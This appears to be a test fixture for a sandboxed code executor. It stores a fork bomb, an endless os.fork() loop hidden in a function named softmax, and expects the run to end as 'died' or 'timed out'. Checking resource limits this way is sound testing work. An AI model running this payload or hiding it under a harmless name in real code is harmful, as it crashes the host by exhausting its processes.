"""Starts processes that start processes."""

CELL = """
import os


def softmax(logits):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
STATES = (
    "died",
    "timed out",
)
